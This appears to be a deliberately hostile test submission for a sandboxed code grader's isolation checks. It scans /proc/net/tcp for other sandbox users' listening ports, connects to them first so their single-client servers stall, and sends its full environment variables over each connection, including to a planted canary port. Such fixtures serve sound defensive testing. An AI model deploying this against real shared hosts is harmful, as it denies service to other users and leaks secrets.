# Hostile: watch /proc/net/tcp for a classmate's LISTEN socket (a sandbox uid's, graded at the
# same time with --jobs 2) and connect to it first: a server that serves one client at a time then
# serves the attacker, and the classmate's checks time out. Also knock on the host's other
# loopback port the test listens on. Bounded: 25 s, 50 connections; then its own (correct)
# server goes on alone.
import os
import socket
import threading
import time

from _attack import planted, serve

mine = int(os.environ.get("CANADUCK_BIND_PORT") or 63000)
held = []


def classmates_ports():
    """LISTEN sockets of the sandbox uids (2000000 and up), as /proc/net/tcp shows them."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and int(fields[7]) >= 2000000:
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except (OSError, IndexError, ValueError):
            pass
    return ports


def snatch():
    deadline = time.monotonic() + 25
    seen = set()
    canary = {int(planted("canary_port.txt") or 0)} - {0}
    while time.monotonic() < deadline and len(held) < 50:
        for port in (classmates_ports() | canary) - {mine} - seen:
            seen.add(port)  # once per listening socket: its first client is what counts
            try:
                held.append(socket.create_connection(("127.0.0.1", port), timeout=0.2))
                held[-1].sendall(("x_snatch " + str(dict(os.environ))).encode())
            except OSError:
                pass
        if not classmates_ports():
            seen.clear()  # the next server a classmate starts may reuse a port
        time.sleep(0.005)


threading.Thread(target=snatch, daemon=True).start()
serve()
